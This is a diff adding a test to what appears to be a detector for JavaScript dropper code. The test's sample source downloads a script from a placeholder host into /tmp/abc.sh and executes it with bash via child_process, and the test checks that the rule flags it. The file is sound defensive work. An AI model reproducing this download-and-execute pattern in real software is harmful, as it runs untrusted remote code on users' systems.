@@ -37,3 +37,13 @@ def test_an_installer_is_context(look):
 def test_near_misses(look):
     assert look(RULE, "fs.writeFileSync('out.json', JSON.stringify(x)); cp.spawn('node', ['out.js'])") == []
     assert look(RULE, DROPPER.replace("[p]", "['other.js']")) == []
+
+
+def test_a_constant_path_in_a_command_line(look):
+    source = (
+        "const fs = require('fs'), cp = require('child_process'), https = require('https');\n"
+        "const f = fs.createWriteStream('/tmp/abc.sh');\n"
+        "https.get('https://x.test', (r) => { r.pipe(f); f.on('finish', () => cp.exec('bash /tmp/abc.sh')) })\n"
+    )
+    assert [f[:3] for f in look(RULE, source)] == [(3, "HIGH", "MEDIUM")]
+    assert look(RULE, source.replace("bash /tmp/abc.sh", "bash /tmp/other.sh")) == []
